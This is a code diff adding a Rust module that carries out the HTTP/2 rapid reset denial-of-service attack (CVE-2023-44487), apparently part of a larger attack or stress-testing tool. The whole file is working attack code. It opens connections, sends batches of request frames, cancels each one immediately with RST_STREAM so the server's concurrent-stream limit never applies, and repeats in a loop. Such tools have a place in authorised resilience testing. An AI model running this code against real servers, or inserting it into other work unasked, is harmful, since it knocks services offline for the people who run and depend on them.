@@ -1,0 +1,56 @@
+//! HTTP/2 rapid reset (CVE-2023-44487): requests that are taken back as soon as they are sent, so that the
+//! limit of streams under way never holds them up.
+
+use std::io;
+use std::time::Instant;
+
+use serde_json::Value;
+use tokio::io::{AsyncWriteExt, BufReader};
+
+use super::frames::{self, CANCEL, END_HEADERS, END_STREAM, HEADERS, RST_STREAM};
+use super::huge_headers::count_frames;
+use super::{AttackArgs, Attacker, storm};
+use crate::Outcome;
+
+/// How many requests go out in one write.
+const BATCH: u32 = 100;
+/// How many one connection can number.
+const MOST_STREAMS: u32 = 1 << 30;
+
+pub(crate) async fn run(args: AttackArgs) -> Outcome<Value> {
+    Ok(storm(&args, |attacker| async move {
+        while attacker.goes_on() {
+            let _ = reset(&attacker).await;
+        }
+    })
+    .await)
+}
+
+async fn reset(attacker: &Attacker) -> io::Result<()> {
+    let stream = attacker.connect().await?;
+    let since = Instant::now();
+    let (reading, mut writing) = stream.into_split();
+    let block = frames::request("GET", "/key", &[("authorization", "Bearer sk-none")]);
+    let writing = async move {
+        writing.write_all(&frames::opening(&[])).await?;
+        let mut number = 0;
+        while attacker.goes_on() && number + BATCH < MOST_STREAMS {
+            let mut out = Vec::new();
+            for _ in 0..BATCH {
+                let id = 2 * number + 1;
+                frames::frame(&mut out, HEADERS, END_HEADERS | END_STREAM, id, &block);
+                frames::frame(&mut out, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
+                number += 1;
+            }
+            attacker.begin(u64::from(BATCH));
+            writing.write_all(&out).await?;
+        }
+        Ok(())
+    };
+    let ended = tokio::select! {
+        ended = writing => ended,
+        ended = count_frames(attacker, BufReader::new(reading)) => ended,
+    };
+    attacker.ended(since, ended.is_err()).await;
+    ended
+}
